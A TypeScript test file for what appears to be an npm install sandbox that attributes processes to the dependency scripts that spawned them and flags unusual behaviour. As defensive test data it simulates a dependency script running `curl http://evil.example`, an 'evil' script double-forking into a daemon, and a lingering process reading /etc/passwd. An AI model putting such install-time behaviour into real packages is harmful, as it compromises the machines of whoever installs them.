import { describe, expect, test } from "bun:test";
import { PHASE } from "../../../protocol/trace.ts";
import { processTree } from "../../../server/analysis/tree.ts";
import { deviations } from "./analysing.ts";
import { completeResult, installStory, PROJECT, ROOT, Story } from "./story.ts";

/** The actor of each process, by its index, at the end of the story. */
function actorsOf(story: Story): Record<number, string> {
  const tree = processTree({ segments: [story.segment()], result: completeResult() });
  return Object.fromEntries(tree.map(({ process, actor }) => [process, actor]));
}
const inside = (dependency: string) => ({ cwd: `${PROJECT}/node_modules/${dependency}` });

describe("the actor of a process", () => {
  test("is that of its phase, by the root it descends from", () => {
    const story = new Story();
    const children = [ROOT.install, ROOT.require, ROOT.import, ROOT.bin].map((root) => {
      story.exec(root, ["node", "x"], { binary: "/usr/bin/node" });
      return story.fork(story.fork(root));
    });
    const actors = actorsOf(story);
    expect(children.map((child) => actors[child])).toEqual(["installer", "import", "import", "bin:pad"]);
  });

  test("is the dependency's script for what npm starts in its directory, and for all that descends from it", () => {
    const story = installStory();
    const script = story.script("left-pad");
    const child = story.fork(script);
    story.exec(child, ["curl", "http://evil.example"], { binary: "/usr/bin/curl", ...inside("left-pad") });
    expect(actorsOf(story)).toEqual({ 1: "installer", [script]: "script:left-pad", [child]: "script:left-pad" });
  });

  test.each([
    ["@scope/pad", "@scope/pad"],
    ["a/node_modules/b", "b"],
    ["a/node_modules/@scope/b", "@scope/b"],
    ["a/src/deep", "a"],
    ["my-node_modules/x", "my-node_modules"],
  ])("in node_modules/%s is script:%s", (directory, name) => {
    const story = installStory();
    const script = story.script(directory);
    expect(actorsOf(story)[script]).toBe(`script:${name}`);
  });

  test.each([".bin", ".hidden/x", "@scope", "../src"])("in node_modules/%s stays the installer", (directory) => {
    const story = installStory();
    const child = story.fork(ROOT.install);
    story.exec(child, ["git", "clone"], { binary: "/usr/bin/git", cwd: `${PROJECT}/node_modules/${directory}` });
    const cwd = `${PROJECT}/node_modules/${directory}`;
    // The kernel never shows `..`: what it leaves of `../src` is outside.
    const expected = cwd.includes("..") ? actorsOf(storyAt(`${PROJECT}/src`)) : actorsOf(story);
    expect(Object.values(expected)).toEqual(["installer", "installer"]);
  });

  test("survives a double fork, a change of directory and another script's directory", () => {
    const story = installStory();
    const script = story.script("evil");
    const daemon = story.fork(story.fork(script));
    story.exec(daemon, ["node", "x.js"], { binary: "/usr/bin/node", cwd: "/" });
    const guest = story.fork(daemon);
    story.exec(guest, ["node", "y.js"], { binary: "/usr/bin/node", ...inside("innocent") });
    const actors = actorsOf(story);
    expect([actors[daemon], actors[guest]]).toEqual(["script:evil", "script:evil"]);
  });

  test("is not a script in the import phase, wherever the process is", () => {
    const story = new Story();
    story.exec(ROOT.require, ["node", "-e", "require('x')"], { binary: "/usr/bin/node" });
    const child = story.fork(ROOT.require);
    story.exec(child, ["sh", "-c", "true"], { binary: "/bin/dash", ...inside("left-pad") });
    expect(actorsOf(story)[child]).toBe("import");
  });

  test("of a process that joined without a fork is taken from its phase", () => {
    const story = new Story();
    story.add({ record: "exec", process: 40, phase: PHASE.import, pid: 9 });
    expect(actorsOf(story)).toEqual({ 40: "import" });
  });

  test("is the sandbox itself for what the runner executes between two commands, which is no behaviour", () => {
    const story = installStory();
    const phase = PHASE.linger;
    story.add({ record: "exec", process: 40, phase, binary: bytes("/bin/dash"), argv: bytes("sh\0-c\0echo READY") });
    story.add({ record: "open", process: 40, phase, path: bytes("/lib/libc.so.6"), result: 3 });
    expect(actorsOf(story)).toEqual({ 1: "installer", 40: "sandbox" });
    expect(deviations(story)).toEqual([]);
  });

  test("is kept by who lives on after the command", () => {
    const story = installStory();
    const script = story.script("evil");
    story.add({ record: "open", process: script, phase: PHASE.linger, path: bytes("/etc/passwd"), result: 3 });
    expect(deviations(story)).toContain("script:evil fs_new_path_read /etc/passwd");
  });
});

function bytes(text: string): Uint8Array {
  return new TextEncoder().encode(text);
}

function storyAt(cwd: string): Story {
  const story = installStory();
  const child = story.fork(ROOT.install);
  story.exec(child, ["git", "clone"], { binary: "/usr/bin/git", cwd });
  return story;
}
